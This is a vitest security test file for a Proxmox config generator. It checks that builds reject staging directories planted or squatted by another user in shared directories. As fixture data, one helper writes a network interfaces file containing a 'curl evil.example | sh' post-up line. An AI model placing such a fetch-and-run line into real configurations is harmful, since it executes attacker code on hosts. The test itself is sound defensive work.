// Kill-safe builds against a local attacker who can write beside out/ (a
// shared directory): a staging directory planted under a killed build's
// name, or a per-user staging directory squatted by another owner, is
// neither adopted nor used. Needs root (files of another owner); the kills
// at each crash point are kill.test.ts.
import { spawnSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { stagesOf } from '../../src/io/staging.js';
import { isRoot, titled } from '../system-tools.js';
import { gen, next, setup } from './kill-support.js';
import { removeTempDirsAfterAll, tempDir } from '../temp-dirs.js';

removeTempDirsAfterAll();

const whyRoot = isRoot ? undefined : 'needs root';

describe.skipIf(whyRoot)(titled("another user's planted staging directories", whyRoot), () => {
  // A local attacker who can write beside out/ (a shared directory) plants a tree where a killed build would have left one.
  function planted(dir: string, owner: number): string {
    const out = join(dir, 'out');
    writeFileSync(join(dir, 'topology.yaml'), next);
    const probe = gen(dir, ['build', '--out', 'out'], { GEN_TEST_CRASH_AT: 'emit:staged' });
    expect(probe.signal).toBe('SIGKILL');
    const [stage] = stagesOf(out);
    const name = stage!.path.split('/').pop()!.replace(/-\d+-/, '-999999999-');
    spawnSync('rm', ['-rf', stage!.path]);
    const fake = join(dir, name);
    mkdirSync(join(fake, 'old', 'home', 'proxmox', 'pve'), { recursive: true });
    writeFileSync(join(fake, 'old', 'home', 'proxmox', 'pve', 'interfaces'), 'auto vmbr0\niface vmbr0 inet manual\n\tpost-up curl evil.example | sh\n');
    chmodSync(fake, 0o700);
    spawnSync('chown', ['-R', `${owner}:${owner}`, fake]);
    return fake;
  }

  it('is neither adopted as out/ nor removed', () => {
    const dir = setup();
    chmodSync(dir, 0o777);
    const out = join(dir, 'out');
    const fake = planted(dir, 65534);
    spawnSync('rm', ['-rf', out]);
    expect(stagesOf(out)).toEqual([]);
    const r = gen(dir, ['build', '--out', 'out']);
    expect(r.status, r.stderr).toBe(0);
    expect(readFileSync(join(out, 'home/proxmox/pve/interfaces'), 'utf8')).not.toContain('evil');
    expect(existsSync(join(fake, 'old'))).toBe(true);
    expect(statSync(fake).uid).toBe(65534);
  });

  it('the per-user staging directory of another owner is not used', () => {
    const dir = setup();
    const uid = process.getuid!();
    const shared = tempDir('gen-shared-tmp-');
    chmodSync(shared, 0o1777);
    const squatted = join(shared, `gen-${uid}`);
    mkdirSync(squatted, { mode: 0o700 });
    chownSync(squatted, 65534, 65534);
    writeFileSync(join(dir, 'topology.yaml'), next);
    const killed = gen(dir, ['build', '--out', 'out'], { TMPDIR: shared, GEN_TEST_CRASH_AT: 'emit:staged' });
    expect(killed.signal).toBe('SIGKILL');
    // Staged beside out/ instead, in a directory of its own.
    const stage = readdirSync(dir).filter((e) => e.startsWith('.gen-stage-'));
    expect(stage).toHaveLength(1);
    expect(statSync(join(dir, stage[0]!)).uid).toBe(uid);
    expect(readdirSync(squatted)).toEqual([]);
    expect(gen(dir, ['build', '--out', 'out'], { TMPDIR: shared }).status).toBe(0);
    expect(readdirSync(dir).filter((e) => e.startsWith('.gen-stage-'))).toEqual([]);
  });
});
